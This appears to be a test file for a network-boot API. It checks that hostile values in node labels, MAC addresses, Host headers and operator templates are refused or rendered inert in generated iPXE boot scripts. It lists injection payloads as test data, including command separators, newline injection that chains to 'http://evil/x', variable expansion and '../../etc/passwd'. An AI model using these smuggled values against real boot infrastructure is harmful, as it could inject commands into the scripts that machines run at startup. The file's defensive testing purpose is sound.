import { expect } from 'chai';
import { startHarness, type Harness } from './support/harness';
import { scriptShape, tokenizeIpxe } from './support/ipxe-tokenizer';

/**
 * Hostile machine values never add anything to a script: each is either refused when written (400)
 * or rendered inert — the rendered script, tokenised with iPXE's own rules, has exactly the commands,
 * labels and token counts of the template rendered with harmless values, and no new ${…} expansion.
 */
const HOSTILE = [
  'x || shell',
  'x && shell',
  'x ; shell',
  'x;shell',
  '#comment',
  'x #rest of line',
  '${net0/mac}',
  '${}',
  '$${x}',
  ':pb_local',
  'goto pb_local',
  'a\nshell',
  'a\r\nchain http://evil/x',
  'a\rshell',
  'ends with \\',
  'tab\tseparated\tvalue',
  'vertical\vtab',
  '|| || ||',
  'nul\u0000byte',
  '%0Ashell',
  '`reboot`',
  '  leading spaces',
  'unicode ✓ ünïcode',
  'x\u2028line separator',
];

const profiles = {
  kern: {
    kernel: 'os/{{labels.role}}/vmlinuz',
    initrds: ['os/{{labels.role}}/initrd'],
    cmdline: 'console=ttyS0 hostname={{labels.hostname}} role={{ labels.role }} serial={{serial}} dhcp-host={{hostname}} uuid={{uuid}} note={{labels.note | uri}}',
  },
  scr: {
    script: '#!ipxe\necho Installing {{labels.hostname}} ({{serial}}, {{hostname}})\nset pb-role {{labels.role}}\nchain {{asset_url}}/x.ipxe?h={{labels.hostname | uri}}&s={{serial | uri}} || goto fail\n:fail\nexit 1\n',
  },
};

describe('boot-api template safety: hostile values are refused at write or rendered inert', () => {
  let h: Harness;
  let n = 0;
  before(async () => {
    h = await startHarness({ bootApi: { profiles, groups: { k: { profile: 'kern', labels: { kind: 'kern' } }, s: { profile: 'scr', labels: { kind: 'scr' } } } } });
  });
  after(() => h.stop());

  async function installScript(kind: string, labels: Record<string, string>, query: Record<string, string>, headers: Record<string, string> = {}): Promise<string> {
    n++;
    const mac = `02:00:00:aa:00:${n.toString(16).padStart(2, '0')}`;
    const created = await h.k.services.nodeStore.create({ mac, state: 'pending', labels: { kind, ...labels }, now: h.clock.now() });
    expect(created.ok).to.equal(true);
    const qs = new URLSearchParams({ mac, buildarch: 'x86_64', platform: 'efi', ...query });
    const r = await h.inject({ method: 'GET', url: `/api/v1/boot?${qs}`, auth: false, headers });
    expect(r.statusCode, r.body).to.equal(200);
    expect(r.body).to.match(kind === 'kern' ? /\nkernel / : /\nchain /);
    return r.body;
  }

  const expansions = (script: string) => tokenizeIpxe(script).commands.flatMap((c) => c.argv.filter((t) => t.includes('${')));

  for (const kind of ['kern', 'scr']) {
    it(`${kind}: ${HOSTILE.length} hostile labels and iPXE variables leave the script's commands unchanged`, async () => {
      const baseline = await installScript(kind, { hostname: 'web-01', role: 'db', note: 'ok' }, { serial: 'SN1', hostname: 'web-01', uuid: '00000000-0000-0000-0000-000000000001' });
      const shape = scriptShape(baseline);
      const baseExpansions = expansions(baseline);
      expect(shape.length).to.be.greaterThan(3);
      for (const v of HOSTILE) {
        const script = await installScript(kind, { hostname: v, role: v, note: v }, { serial: v, hostname: v, uuid: v });
        expect(scriptShape(script), `value ${JSON.stringify(v)}:\n${script}`).to.deep.equal(shape);
        expect(expansions(script), `value ${JSON.stringify(v)} added an expansion`).to.deep.equal(baseExpansions);
        expect(script.split('\n').length, JSON.stringify(v)).to.equal(baseline.split('\n').length);
      }
    });
  }

  it('a hostile Host header never reaches a script (the local address is used instead)', async () => {
    // Without publicUrl (the harness sets one), scripts take their base URL from the Host header.
    const own = await startHarness({ bootApi: { publicUrl: undefined } });
    after(() => own.stop());
    const { app } = own;
    // Each after a good Host (the last good one is remembered): the good one is used, the hostile one never.
    for (const [i, host] of ['evil || shell', 'a b', '${x}.example', 'x#y'].entries()) {
      const good = `boot${i}.example:8080`;
      const g = await app.inject({ method: 'GET', url: '/api/v1/ipxe/boot.ipxe', headers: { host: good } });
      expect(g.body).to.include(`set pb-base http://${good}\n`);
      const r = await app.inject({ method: 'GET', url: '/api/v1/ipxe/boot.ipxe', headers: { host } });
      expect(r.statusCode).to.equal(200);
      expect(r.body).to.not.include(host);
      expect(r.body).to.not.include(good);
      expect(r.body).to.match(/^set pb-base http:\/\/127\.0\.0\.1:\d+$/m);
    }
  });

  it('labels with line breaks or control characters are refused at write (400)', async () => {
    const mac = '02-00-00-bb-00-01';
    expect((await h.inject({ method: 'POST', url: '/api/v1/nodes', payload: { mac } })).statusCode).to.equal(201);
    for (const v of HOSTILE.filter((x) => /[\u0000-\u001f\u007f]/.test(x))) {
      const r = await h.inject({ method: 'PATCH', url: `/api/v1/nodes/${mac}`, payload: { labels: { hostname: v } } });
      expect(r.statusCode, JSON.stringify(v)).to.equal(400);
    }
    for (const key of ['a b', 'x||y', '${k}', '#k', ':k', '']) {
      const r = await h.inject({ method: 'PATCH', url: `/api/v1/nodes/${mac}`, payload: { labels: { [key]: 'v' } } });
      expect(r.statusCode, JSON.stringify(key)).to.equal(400);
    }
    // printable hostile values are accepted (and rendered inert, above)
    const ok = await h.inject({ method: 'PATCH', url: `/api/v1/nodes/${mac}`, payload: { labels: { hostname: 'x || shell' } } });
    expect(ok.statusCode).to.equal(200);
  });

  it('hostile MACs are refused by the boot endpoint and the API (400)', async () => {
    for (const mac of ['52:54:00:12:34:56\nshell', '52:54:00:12:34:56 || shell', '${mac}', '../../etc/passwd', '52:54:00:12:34', '52:54-00:12:34:56', 'zz:zz:zz:zz:zz:zz']) {
      const boot = await h.inject({ method: 'GET', url: `/api/v1/boot?mac=${encodeURIComponent(mac)}`, auth: false });
      expect(boot.statusCode, mac).to.equal(400);
      const create = await h.inject({ method: 'POST', url: '/api/v1/nodes', payload: { mac } });
      expect(create.statusCode, mac).to.equal(400);
    }
  });

  it('operator templates that would add commands are refused (400)', async () => {
    const bad = [
      { kernel: 'k', cmdline: 'quiet || shell' },
      { kernel: 'k', cmdline: 'quiet ; shell' },
      { kernel: 'k', cmdline: 'quiet && shell' },
      { kernel: 'k', cmdline: 'quiet #x' },
      { kernel: 'k', cmdline: 'quiet\nshell' },
      { kernel: 'k', cmdline: 'quiet \\' },
      { kernel: 'k x', cmdline: 'quiet' },
      { kernel: 'k', initrds: ['a b'] },
      { kernel: 'k', cmdline: '{{ nope }}' },
      { kernel: 'k', cmdline: '{{ mac | shell }}' },
      { script: 'echo no signature' },
      { script: '#!ipxe\n{{ labels.x' },
    ];
    for (const body of bad) {
      const r = await h.inject({ method: 'PUT', url: '/api/v1/profiles/bad', payload: body });
      expect(r.statusCode, JSON.stringify(body)).to.equal(400);
      expect(r.json().code).to.equal('PB_ERR_BOOTAPI_TEMPLATE');
    }
  });
});
